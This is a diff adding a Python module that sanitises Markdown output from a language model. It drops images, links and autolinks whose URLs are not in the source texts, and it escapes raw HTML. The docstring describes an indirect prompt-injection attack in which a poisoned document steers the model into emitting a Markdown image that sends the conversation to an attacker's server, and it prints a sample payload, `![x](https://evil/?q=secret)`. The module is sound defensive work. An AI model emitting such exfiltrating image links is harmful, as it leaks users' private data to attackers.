@@ -1,0 +1,53 @@
+"""Model output is shown as Markdown in a browser: neutralise what could leak data or run there.
+
+A Markdown image loads its URL as soon as it is rendered, so an answer steered by a poisoned document can send
+the conversation to an attacker's server (`![x](https://evil/?q=secret)`). Links and images survive only when
+their URL appears in the sources the answer was built from; raw HTML is escaped.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+
+_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
+_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
+_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*(\S+).*$", re.MULTILINE)
+_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]+)>", re.IGNORECASE)
+_HTML_TAG = re.compile(r"<(/?[a-zA-Z!][^>]*)>")
+_BARE_URL = re.compile(r"(?<![`(<\w])((?:https?|ftp)://[^\s)>\]`]+)")
+
+
+def allowed_urls(texts: Iterable[str]) -> set[str]:
+    """Every URL that appears in the given source texts."""
+    return {match.rstrip(".,;:") for text in texts for match in re.findall(r"(?:https?|ftp)://[^\s)>\]\"']+", text)}
+
+
+def sanitise_markdown(text: str, allowed: set[str] = frozenset()) -> str:
+    def image(match: re.Match) -> str:
+        alt, url = match.group(1), match.group(2)
+        return match.group(0) if url in allowed else f"[image removed: {alt or 'no description'}]"
+
+    def link(match: re.Match) -> str:
+        label, url = match.group(1), match.group(2)
+        return match.group(0) if url in allowed else label
+
+    text = _IMAGE.sub(image, text)
+    text = _LINK.sub(link, text)
+    text = _REFERENCE_DEFINITION.sub(lambda m: m.group(0) if m.group(1) in allowed else "", text)
+    text = _AUTOLINK.sub(lambda m: m.group(0) if m.group(1) in allowed else f"`{m.group(1)}`", text)
+    text = _HTML_TAG.sub(lambda m: f"&lt;{m.group(1)}&gt;", text)
+    return _BARE_URL.sub(lambda m: m.group(1) if m.group(1) in allowed else f"`{m.group(1)}`", text)
+
+
+def sanitise_stream(pieces: Iterable[str], allowed: set[str] = frozenset()) -> Iterator[str]:
+    """Streamed text, sanitised a line at a time: a link or image never spans lines, so holding back the unfinished
+    line is enough to never show a half-written one."""
+    pending = ""
+    for piece in pieces:
+        pending += piece
+        if "\n" in pending:
+            complete, pending = pending.rsplit("\n", 1)
+            yield sanitise_markdown(complete, allowed) + "\n"
+    if pending:
+        yield sanitise_markdown(pending, allowed)
